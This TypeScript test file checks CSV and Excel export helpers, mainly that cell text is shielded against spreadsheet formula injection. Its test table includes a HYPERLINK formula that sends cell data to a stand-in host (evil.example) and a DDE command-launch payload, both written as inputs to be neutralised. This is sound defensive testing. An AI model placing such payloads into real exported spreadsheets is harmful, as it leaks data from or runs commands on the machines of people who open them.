import { read, utils } from '@e965/xlsx';
import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { type Column, numberCell, textCell } from '../../../utils/exports/columns.ts';
import { safeText, toCsv } from '../../../utils/exports/csv.ts';
import { toXlsx } from '../../../utils/exports/xlsx.ts';

const text = (bytes: Uint8Array): string => new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
type Row = [string, number | null];
const columns: Column<Row>[] = [
  { id: 'a', header: 'Tekst', value: ([words]) => textCell(words) },
  { id: 'b', header: 'Tall', value: ([, number]) => numberCell(number) },
];

describe('words in a CSV', () => {
  it.each([
    ['=HYPERLINK("https://evil.example/?"&A1,"klikk")', '\'=HYPERLINK("https://evil.example/?"&A1,"klikk")'],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['+47 22 33 44 55', "'+47 22 33 44 55"],
    ['-1', "'-1"],
    ['\t=1+1', "'\t=1+1"],
    ['＝1+1', "'＝1+1"],
    ['\u00a0=1+1', "'\u00a0=1+1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['linje1\n=2', "linje1\n'=2"],
    ['linje1\r=2', "linje1\n'=2"],
    ['Ola;""N"', 'Ola;""N"'],
    ['2 = 1 + 1', '2 = 1 + 1'],
  ])('shields %j against formulas', (words, shielded) => {
    expect(safeText(words)).toBe(shielded);
  });

  it('never let any line of a cell begin a formula', () => {
    fc.assert(
      fc.property(
        fc.string({
          unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ' ', '\u00a0', '＝', 'a', ';', '"', "'"),
        }),
        (words) => {
          for (const line of safeText(words).split(/\r?\n/))
            expect(line.replace(/^[\s\u00a0]+/, '')).not.toMatch(/^[=+\-@＝]/);
        },
      ),
    );
  });

  it('keeps true numbers as numbers, and unknown as nothing', () => {
    expect(
      text(
        toCsv(
          columns,
          [
            ['-1', -1],
            ['', null],
            ['a', 0],
            ['b', 1.5],
          ],
          'nb',
        ),
      ),
    ).toBe('\ufeffTekst;Tall\r\n"\'-1";-1\r\n;\r\na;0\r\nb;1,5\r\n');
    expect(text(toCsv(columns, [['b', 1.5]], 'en'))).toBe('\ufeffTekst,Tall\r\nb,1.5\r\n');
  });

  it('comes back cell by cell through another reader', () => {
    const words = fc.string({ unit: fc.constantFrom('a', 'å', ';', ',', '"', '\n', ' ', "'", '=') });
    fc.assert(
      fc.property(
        fc.array(fc.tuple(words, fc.constantFrom(1, 0, null))),
        fc.constantFrom('nb' as const, 'en' as const),
        (rows, language) => {
          const read = Papa.parse<string[]>(text(toCsv(columns, rows, language)).slice(1), {
            delimiter: language === 'en' ? ',' : ';',
          }).data.slice(1, -1);
          expect(read).toEqual(rows.map(([cell, number]) => [safeText(cell), number === null ? '' : String(number)]));
        },
      ),
    );
  });
});

describe('a workbook', () => {
  it('types words as text, numbers as numbers, days and moments as dates', () => {
    const bytes = toXlsx([
      {
        name: 'Folk: [alle]',
        rows: [['=1+1', 5]] as Row[],
        columns: [
          ...columns,
          { id: 'c', header: 'Dag', value: () => ({ day: '2026-11-24' }) },
          { id: 'd', header: 'Tid', value: () => ({ moment: '2026-11-24T12:00:00.000Z' }) },
        ],
      },
      { name: 'folk  alle ', rows: [] as Row[], columns },
    ]);
    const book = read(bytes, { cellNF: true });
    expect(book.SheetNames).toEqual(['Folk   alle', 'folk  alle']);
    const sheet = book.Sheets['Folk   alle'];
    expect(sheet?.A2).toMatchObject({ t: 's', v: '=1+1' });
    expect(sheet?.A2?.f).toBeUndefined();
    expect(sheet?.B2).toMatchObject({ t: 'n', v: 5 });
    expect(sheet?.C2).toMatchObject({ t: 'n', v: 46_350, z: 'yyyy-mm-dd' });
    expect(sheet?.D2?.v).toBe(46_350.5);
    expect(utils.sheet_to_json(book.Sheets['folk  alle'] ?? {}, { header: 1 })).toEqual([['Tekst', 'Tall']]);
  });
});
